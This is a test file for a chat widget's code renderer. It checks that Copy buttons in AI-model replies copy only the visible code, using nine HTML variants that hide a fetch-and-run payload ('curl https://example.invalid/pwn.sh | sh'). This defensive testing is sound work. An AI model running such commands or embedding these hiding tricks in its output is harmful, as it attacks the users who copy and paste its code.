// Model HTML can draw a button that looks like the code block's Copy button, or hide text inside code that the
// reader sees. Copy must put exactly the code shown on the clipboard, taken from the renderer's own record of
// its block, never from DOM model HTML can shape (paste-jacking: "ls -la" shown, "… | sh" copied).
import '../../../src/widget/index.js';
import { mount, cleanup, idle, endpoint, uniqueKey, $, $$, waitFor } from '../_support/helpers.js';

const PWN = '; curl https://example.invalid/pwn.sh | sh';
const FENCE = '```sh\nls -la\n```\n';

/** Each variant: model HTML around or instead of a real code block whose visible code is "ls -la". */
const VARIANTS: Array<[string, string]> = [
  [
    'planted data-copy text',
    '<pre><button data-copy="curl https://example.invalid/x | sh">Copy</button><code>ls -la</code></pre>',
  ],
  [
    'hidden text in a fake block',
    '<div class="code-block"><div class="code-header"><button class="code-copy" data-copy>Copy</button></div>' +
      `<pre><code>ls -la<span hidden>${PWN}</span></code></pre></div>`,
  ],
  [
    '<details> in a fake block',
    '<div class="code-block"><button class="code-copy" data-copy>Copy</button>' +
      `<pre><code>ls -la<details><summary></summary>${PWN}</details></code></pre></div>`,
  ],
  [
    'display:none',
    `<div class="code-block"><button data-copy>Copy</button><pre><code>ls -la<span style="display:none">${PWN}</span>` +
      '</code></pre></div>',
  ],
  [
    'aria-hidden, off-screen',
    '<pre><button data-copy class="code-copy">Copy</button>' +
      `<code>ls -la<span aria-hidden="true" class="sr-only">${PWN}</span></code></pre>`,
  ],
  [
    'renderer class names on spans',
    '<div class="code-block"><span class="code-copy" data-copy>Copy</span>' +
      `<code class="code-lang">ls -la<span class="code-header" hidden>${PWN}</span></code></div>`,
  ],
  [
    'fake copy button next to a real block',
    `<button class="code-copy" data-copy="${PWN}">Copy</button><code hidden>${PWN}</code>\n\n${FENCE}`,
  ],
  [
    'real block nested in model HTML',
    `<div class="code-block" data-code-block>\n\n${FENCE}\n<code hidden>${PWN}</code></div>`,
  ],
  [
    'real block in <details> with hidden tail',
    `<details open><summary>code</summary>\n\n${FENCE}\n<span hidden>${PWN}</span></details>`,
  ],
];

describe('copy buttons in model output', () => {
  let copied: string[] = [];
  const clipboard = navigator.clipboard;
  const realWrite = clipboard.writeText;

  beforeEach(() => {
    copied = [];
    clipboard.writeText = async (text: string) => {
      copied.push(text);
    };
  });
  afterEach(() => {
    clipboard.writeText = realWrite;
    cleanup();
  });

  for (const [name, html] of VARIANTS) {
    it(`${name}: every button copies only the code shown, or nothing`, async () => {
      const reply = `Run this:\n\n${html}\n\n${FENCE}`;
      const el = await mount({ endpoint: endpoint('normal', uniqueKey('copyjack'), { reply }) });
      await el.send('show me');
      await idle(el);
      const buttons = $$(el, '.msg.assistant .md button');
      if (!buttons.length) throw new Error('no button was rendered at all');
      for (const button of buttons) button.click();
      // The renderer's own block(s) always copy; a copy is asynchronous.
      const real = $$(el, '.msg.assistant .md .code-block button.code-copy').length;
      await waitFor(() => copied.length >= real, `${real} copies`);
      await new Promise((r) => setTimeout(r, 50));
      for (const text of copied) if (text !== 'ls -la') throw new Error(`copied ${JSON.stringify(text)}`);
      if (!copied.length) throw new Error('the real Copy button copied nothing');
      // Model HTML keeps none of the renderer's classes or data attributes: only the fences make blocks.
      const fences = reply.split(FENCE).length - 1;
      const blocks = $$(el, '.msg.assistant .md .code-block').length;
      if (blocks !== fences) throw new Error(`${blocks} elements with class code-block for ${fences} fences`);
      for (const node of $$(el, '.msg.assistant .md *')) {
        if (node.closest('.code-block')) continue;
        const borrowed = node.getAttributeNames().filter((a) => a === 'class' || a.startsWith('data-'));
        if (borrowed.length) throw new Error(`model HTML kept ${borrowed.join(', ')} on <${node.localName}>`);
      }
    });
  }

  it('the code block copy button copies exactly its code', async () => {
    const reply = '```sh\necho hi\n  indented\n```\n';
    const el = await mount({ endpoint: endpoint('normal', uniqueKey('copyok'), { reply }) });
    await el.send('code');
    await idle(el);
    $(el, '.msg.assistant .md button.code-copy')!.click();
    await waitFor(() => copied.length > 0, 'a copy');
    if (copied[0] !== 'echo hi\n  indented') throw new Error(`copied ${JSON.stringify(copied[0])}`);
  });
});
